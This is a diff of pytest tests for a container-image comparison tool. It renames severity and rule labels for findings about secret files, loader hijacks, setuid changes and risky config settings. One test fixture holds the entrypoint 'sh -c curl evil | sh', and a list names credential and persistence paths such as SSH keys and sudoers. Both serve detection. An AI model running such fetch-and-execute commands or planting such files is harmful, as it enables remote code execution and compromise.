@@ -103,8 +103,8 @@ def test_a_new_name_of_a_setuid_file_is_notable(ocitool: Run, pair: Pair) -> Non
 
 
 SENSITIVE = {
-    "root/.ssh/id_rsa": "secret", "app/.env": "secret", "app/tls.key": "secret", "root/.npmrc": "secret",
-    "app/.git/config": "secret", "etc/ld.so.preload": "loader", "usr/lib/python3/sitecustomize.py": "loader",
+    "root/.ssh/id_rsa": "secret-file", "app/.env": "secret-file", "app/tls.key": "secret-file", "root/.npmrc": "secret-file",
+    "app/.git/config": "secret-file", "etc/ld.so.preload": "loader", "usr/lib/python3/sitecustomize.py": "loader",
     "etc/cron.d/x": "cron", "etc/crontab": "cron", "root/.ssh/authorized_keys": "accounts", "etc/passwd": "accounts",
     "etc/sudoers.d/app": "accounts", "usr/local/share/ca-certificates/x.crt": "trust",
 }  # fmt: skip
@@ -129,7 +129,7 @@ def test_ordinary_files_are_not_notable(ocitool: Run, pair: Pair, path: str) -> 
 def test_an_update_of_the_trusted_authorities_is_shown_and_fails_nothing(ocitool: Run, pair: Pair) -> None:
     path = "etc/ssl/certs/ca-certificates.crt"
     a, b = pair([[(path, b"1")]], [[(path, b"2")]])
-    assert [("trust", "change")] == [(one["rule"], one["severity"]) for one in found(ocitool, a, b)]
+    assert [("trust", "info")] == [(one["rule"], one["severity"]) for one in found(ocitool, a, b)]
     assert 0 == ocitool("diff", "--fail-on", "notable", a, b).code
     assert 1 == ocitool("diff", "--fail-on", "notable:trust", a, b).code
 
@@ -137,9 +137,9 @@ def test_an_update_of_the_trusted_authorities_is_shown_and_fails_nothing(ocitool
 @pytest.mark.parametrize(
     ("path", "before", "after", "severity"),
     [
-        ("bin/sh", "dash", "/tmp/x", "danger"), ("usr/bin/python3", "python3.11", "/opt/x/python3", "danger"),
-        ("usr/bin/python3", "python3.11", "python3.12", "change"), ("bin", "usr/bin", "opt/bin", "danger"),
-        ("lib64/ld-linux-x86-64.so.2", "../lib/ld.so", "/tmp/ld.so", "danger"),
+        ("bin/sh", "dash", "/tmp/x", "security"), ("usr/bin/python3", "python3.11", "/opt/x/python3", "security"),
+        ("usr/bin/python3", "python3.11", "python3.12", "info"), ("bin", "usr/bin", "opt/bin", "security"),
+        ("lib64/ld-linux-x86-64.so.2", "../lib/ld.so", "/tmp/ld.so", "security"),
     ],
 )  # fmt: skip
 def test_an_interpreter_that_leads_elsewhere_is_notable(
@@ -154,9 +154,9 @@ def test_an_interpreter_that_leads_elsewhere_is_notable(
 @pytest.mark.parametrize(
     ("before", "after", "rule", "pointer"),
     [
-        ({}, {"Env": ["DB_PASSWORD=hunter2"]}, "secret", "/config/Env/0"),
-        ({"Env": ["DB_PASSWORD=x"]}, {"Env": ["DB_PASSWORD=hunter2"]}, "secret", "/config/Env/0"),
-        ({}, {"Labels": {"api.token": "hunter2"}}, "secret", "/config/Labels/api.token"),
+        ({}, {"Env": ["DB_PASSWORD=hunter2"]}, "secret-env", "/config/Env/0"),
+        ({"Env": ["DB_PASSWORD=x"]}, {"Env": ["DB_PASSWORD=hunter2"]}, "secret-env", "/config/Env/0"),
+        ({}, {"Labels": {"api.token": "hunter2"}}, "secret-label", "/config/Labels/api.token"),
         ({}, {"Env": ["LD_PRELOAD=/x.so"]}, "loader", "/config/Env/0"),
         ({"Env": ["NODE_OPTIONS="]}, {"Env": ["NODE_OPTIONS=--require /x"]}, "loader", "/config/Env/0"),
         ({"Entrypoint": ["/app"]}, {"Entrypoint": ["sh", "-c", "curl evil | sh"]}, "command", "/config/Entrypoint"),
@@ -170,7 +170,7 @@ def test_settings_that_open_doors_are_notable(
 ) -> None:
     a, b = pair(configured({"User": "app"} | before), configured({"User": "app"} | after))
     items = found(ocitool, a, b)
-    assert [(rule, pointer, "danger")] == [(one["rule"], one["pointer"], one["severity"]) for one in items]
+    assert [(rule, pointer, "security")] == [(one["rule"], one["pointer"], one["severity"]) for one in items]
     assert "hunter2" not in json.dumps(items)
 
 
@@ -239,7 +239,7 @@ def rebuilt(first: bytes, mtime: int) -> Image:
 def test_layers_that_cannot_be_shared_are_a_cost_that_fails_nothing(ocitool: Run, pair: Pair) -> None:
     a, b = pair(rebuilt(b"1", 1), rebuilt(b"2", 2))
     report = report_of(ocitool("diff", "--format", "json", "--fail-on", "notable", a, b), 0)
-    assert {("unshared-layer", "cost")} == {(one["rule"], one["severity"]) for one in report["notable"]}
+    assert {("unshared-layer", "info")} == {(one["rule"], one["severity"]) for one in report["notable"]}
     assert 1 == ocitool("diff", "--fail-on", "notable:setuid,unshared-layer", a, b).code
 
 
@@ -287,9 +287,9 @@ def test_what_one_step_deletes_is_one_row(ocitool: Run, pair: Pair, whole: bool)
 
 
 def test_a_flood_of_any_rule_is_counted_in_text(ocitool: Run, pair: Pair) -> None:
-    a, b = pair([[("k", b"")]], [[("k", b""), *(entry(f"w{number}", b"1", mode=0o666) for number in range(300))]])
+    a, b = pair([[("k", b"")]], [[("k", b""), *(entry(f"d{number}/w", b"1", mode=0o666) for number in range(300))]])
     lines = [line for line in ocitool("diff", "--stat", a, b).out.splitlines() if "world-writable" in line]
-    assert (16, "  world-writable: 285 more (--format json lists all)") == (len(lines), lines[-1])
+    assert (16, "  security  world-writable: 285 more (--format json lists all)") == (len(lines), lines[-1])
 
 
 def test_a_secret_is_never_lost_in_a_flood(ocitool: Run, pair: Pair) -> None:
